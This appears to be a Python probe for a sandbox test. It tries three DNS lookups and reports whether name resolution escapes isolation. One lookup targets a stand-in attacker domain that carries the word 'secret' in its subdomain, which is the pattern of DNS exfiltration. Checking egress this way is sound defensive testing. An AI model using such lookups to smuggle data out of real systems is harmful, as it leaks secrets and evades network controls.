# Tries: to have names resolved, and to carry something out in the name asked for.
import socket


def run(args, context):
    stopped = {}
    for name, ask in {
        "getaddrinfo": lambda: socket.getaddrinfo("this-is-the-secret.evil.example.com", 443),
        "gethostbyname": lambda: socket.gethostbyname("example.com"),
        "gethostbyaddr": lambda: socket.gethostbyaddr("8.8.8.8"),
    }.items():
        try:
            return {"escaped": f"{name}: {ask()}"}
        except OSError as error:
            stopped[name] = type(error).__name__
    return {"stopped": stopped}
